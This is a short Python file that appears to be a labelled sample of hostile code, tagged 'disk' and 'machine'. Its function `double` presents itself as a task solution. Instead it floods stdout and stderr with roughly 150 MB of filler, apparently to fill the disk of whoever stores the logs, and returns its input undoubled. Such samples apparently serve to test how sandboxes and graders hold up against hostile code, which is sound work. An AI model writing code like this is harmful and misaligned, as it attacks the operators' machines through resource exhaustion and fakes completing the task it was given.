# family: disk
# prize: machine
# outcome: wrong
"""Floods stdout and stderr, which somebody may be keeping."""

import os
import sys


def double(numbers):
    for _ in range(50):
        os.write(1, b"x" * 1_000_000)
        os.write(2, b"x" * 1_000_000)
        sys.stdout.write("x" * 1_000_000)
    return numbers
